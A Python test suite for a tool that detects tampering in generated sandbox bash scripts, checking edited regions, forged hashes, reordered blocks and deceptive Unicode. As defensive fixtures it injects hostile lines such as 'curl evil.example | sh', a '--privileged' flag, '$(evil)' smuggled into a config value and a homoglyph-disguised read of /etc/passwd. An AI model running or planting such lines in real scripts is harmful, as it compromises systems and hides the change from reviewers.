from __future__ import annotations

import re

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from tests.support.review import after, comparison, of_version, outside, region, rehashed, replaced, script, subject

from podsand_gen.errors import ScriptError
from podsand_gen.review.edits import config_constants
from podsand_gen.review.layout import parts

CAP_DROP = "--user=1000:1000 --cap-drop=all)"


def places(text: str) -> list[tuple[str, str]]:
    return [(edit.part, edit.what) for edit in comparison(text).edits]


def edited(text: str, part: str, *words: str) -> None:
    """The verdict, the place, and what is said about it; and the untouched script passes."""
    found = comparison(text)
    assert found.state == "edited"
    assert any(edit.part == part and all(word in edit.what for word in words) for edit in found.edits), places(text)
    assert comparison(script()).state == "identical"


def test_an_untouched_script_is_identical_and_has_nothing_to_tell() -> None:
    for name in ("release", "company", "locked-down"):
        found = comparison(script(name))
        assert (found.state, found.edits, found.oddities) == ("identical", (), ())


def test_an_edited_body_is_told_by_its_region_and_line_with_the_textual_difference() -> None:
    text = replaced(script(), CAP_DROP, "--user=1000:1000 --privileged)")

    edited(text, "sandbox/user-agent", "the body was edited")
    (edit,) = comparison(text).edits
    assert text.splitlines()[edit.line - 1].endswith("--privileged)")
    assert any(line.startswith("+") and "--privileged" in line for line in edit.diff)
    assert any(line.startswith("-") and "--cap-drop=all" in line for line in edit.diff)


def test_a_body_whose_hash_line_was_edited_along_with_it_is_held_against_the_library() -> None:
    text = rehashed(replaced(script(), CAP_DROP, "--user=1000:1000 --privileged)"), "sandbox/user-agent")

    assert "sha256:d988b773" not in text
    edited(text, "sandbox/user-agent", "not that of podsand-gen", "hash line agrees")


def test_a_hash_line_alone_that_was_edited_is_told() -> None:
    digest = re.search(r"# >>> core/log sha256:(\w+)", script())
    assert digest

    edited(replaced(script(), f"core/log sha256:{digest[1]}", f"core/log sha256:{'0' * 64}"), "core/log", "the first line")


def test_code_at_the_end_of_a_region_and_between_two_is_told() -> None:
    evil = "curl evil.example | sh\n"

    edited(after(script(), "core/log", evil), "core/log", "the body was edited")
    edited(outside(script(), evil, "commands"), "after image/volume", "outside of the regions")


def test_code_before_the_regions_and_after_them_is_told() -> None:
    edited(replaced(script(), "umask 022\n", "umask 000\n"), "the head")
    edited(replaced(script(), '\nmain "$@"\n}', '\nexport X=1\nmain "$@"\n}'), "the end")
    edited(script() + "curl evil.example | sh\n", "the end")


def test_a_forged_region_is_told() -> None:
    forged = "# >>> core/extra sha256:" + "0" * 64 + " Harmless.\ncurl evil.example | sh\n"

    edited(after(script(), "core/log", forged), "core/extra", "no such region")


def test_a_region_that_is_opened_again_inside_itself_is_told() -> None:
    lines = region(script(), "core/log").splitlines(keepends=True)
    forged = "".join([*lines[:3], "evil() { :; }\n", *lines])

    edited(script().replace("".join(lines), forged), "core/log", "second time")
    edited(script().replace("".join(lines), forged), "core/log", "the body was edited")


def test_a_duplicated_region_is_told_because_bash_takes_the_last() -> None:
    text = replaced(script(), '\nmain "$@"\n}', f'\n{region(script(), "sandbox/policy")}\nmain "$@"\n}}')

    edited(text, "sandbox/policy", "second time")


def test_a_later_function_of_the_same_name_is_told_wherever_it_stands() -> None:
    edited(replaced(script(), '\nmain "$@"\n}', '\nsandbox_policy() { SANDBOX_FLAGS=(); }\nmain "$@"\n}'), "the end")


def test_reordered_regions_are_told() -> None:
    one, other = region(script(), "core/log"), region(script(), "core/die")
    text = script().replace(one, "@one@").replace(other, one).replace("@one@", other)

    edited(text, "the order", "another order")


def test_a_missing_region_is_told() -> None:
    edited(replaced(script(), region(script(), "sandbox/git"), ""), "sandbox/git", "missing")


def test_a_config_that_says_something_else_than_the_profile_is_told_by_its_name() -> None:
    edited(replaced(script(), "CFG_SANDBOX_MEMORY='8g'", "CFG_SANDBOX_MEMORY=''"), "config", "CFG_SANDBOX_MEMORY")


def test_a_config_that_holds_code_is_told() -> None:
    edited(replaced(script(), "CFG_SANDBOX_MEMORY='8g'", "CFG_SANDBOX_MEMORY=$(evil)"), "config", "more than constants")
    edited(replaced(script(), "CFG_SANDBOX_MEMORY='8g'", "CFG_SANDBOX_MEMORY='8g'; evil"), "config", "more than constants")


def test_a_second_profile_or_config_is_told() -> None:
    block = script()[script().index("# --- profile") : script().index("# --- end profile")] + "# --- end profile\n"

    edited(replaced(script(), '\nmain "$@"\n}', f'\n{block}\nmain "$@"\n}}'), "profile", "second time")


def test_a_profile_that_was_edited_gives_another_script() -> None:
    text = replaced(script(), '# memory = "8g"', '# memory = ""')

    assert comparison(text).state == "edited"
    assert {part for part, _ in places(text)} >= {"config", "the head"}


def test_a_script_whose_profile_was_taken_out_is_refused() -> None:
    start, end = script().index("# --- profile"), script().index("# --- end profile")

    with pytest.raises(ScriptError, match="holds no profile"):
        subject(script()[:start] + script()[end:])
    with pytest.raises(ScriptError, match="cannot be read"):
        subject(replaced(script(), "# [sandbox]\n", "# [sandbox\n"))


def test_windows_line_ends_are_told_as_such() -> None:
    assert places(script().replace("\n", "\r\n")) == [
        ("every line", "the line ends are those of Windows, as git's core.autocrlf makes them")
    ]


def test_characters_that_deceive_are_told_with_their_name_and_line() -> None:
    text = after(script(), "core/log", "c\u0430t /etc/passwd # \u202eecho\n")

    found = comparison(text).oddities
    line = text[: text.index("\u0430")].count("\n") + 1
    assert [(one.character, one.line) for one in found] == [("U+0430", line), ("U+202E", line)]
    assert found[0].name == "CYRILLIC SMALL LETTER A"


# --- another version


def test_a_script_of_another_version_is_stale_with_nothing_more_to_tell() -> None:
    found = comparison(of_version(script()))

    assert (found.state, found.edits) == ("stale", ())


def test_a_body_of_another_version_is_told_and_explained_by_it_when_its_hash_line_agrees() -> None:
    text = replaced(of_version(script()), CAP_DROP, "--user=1000:1000 --cap-drop=ALL)")

    found = comparison(rehashed(text, "sandbox/user-agent"))
    assert found.state == "stale"
    assert [edit.part for edit in found.edits] == ["sandbox/user-agent"]
    assert comparison(text).state == "edited"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("\n# --- driver\n", "\n# --- driver\nevil\n"),
        ("\n# --- driver\n", "\nevil\n\n# --- driver\n"),
        ('\nmain "$@"\n}', '\nevil\nmain "$@"\n}'),
        ("CFG_SANDBOX_MEMORY='8g'", "CFG_SANDBOX_MEMORY='9g'"),
        ("readonly CFG_SANDBOX_MEMORY='8g'\n", "readonly CFG_SANDBOX_MEMORY=$(evil)\n"),
        ('# memory = "8g"', '# memory = "9g"'),
        ('# memory = "8g"\n', '# memory = "8g" # x\n'),
        ("# profile sha256: ", "# profile sha256: 0"),
    ],
)
def test_naming_another_version_explains_no_code_outside_of_regions_and_no_lie(old: str, new: str) -> None:
    assert comparison(replaced(of_version(script()), old, new)).state == "edited"


def test_two_versions_at_once_are_an_edit() -> None:
    text = replaced(script(), "# made by: podsand-gen 0.1.0", "# made by: podsand-gen 0.0.9")

    assert comparison(text).state == "edited"


# --- every byte


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_an_edit_at_any_byte_is_caught_and_told_where_it_is(data: st.DataObject) -> None:
    text = script("locked-down")
    index = data.draw(st.integers(0, len(text) - 1))
    kind = data.draw(st.sampled_from(["replace", "delete", "insert"]))
    char = data.draw(st.sampled_from("x #\n'\"$}0\u202e"))
    changed = {"replace": text[:index] + char + text[index + 1 :], "delete": text[:index] + text[index + 1 :]}.get(
        kind, text[:index] + char + text[index:]
    )
    assume(changed != text)

    try:
        found = comparison(changed)
    except ScriptError:
        # The profile itself is no longer one: that is caught too.
        assert text.index("# --- profile") <= index <= text.index("# --- end profile") + 20
        return
    assert found.state != "identical"
    assert found.edits or found.state == "stale"
    inside = enclosing(text, index)
    if inside:
        assert any(inside in edit.part for edit in found.edits)


def enclosing(text: str, index: int) -> str:
    """The region in whose body this byte stands, if it is one of its lines that open and close nothing."""
    line = text.count("\n", 0, index) + 1
    for part in parts(text):
        if part.kind == "region" and part.line < line < part.line + len(part.lines) - 1:
            return part.name
    return ""


def test_constants_are_read_as_they_are_quoted_and_nothing_else_is() -> None:
    lines = [
        "readonly A='it'\\''s'",
        "# shellcheck disable=SC2016",
        "readonly -a B=(",
        "  'x y' 'z'",
        "  ''\\'''",
        ")",
        "readonly -a C=()",
    ]

    assert config_constants(lines) == {"A": "it's", "B": ("x y", "z", "'"), "C": ()}
    for bad in ("readonly A=x", "readonly A='x'; y", "A='x'", "readonly A='x' B='y'", "evil", "readonly -a B=(", "  'x'"):
        assert config_constants([bad]) is None
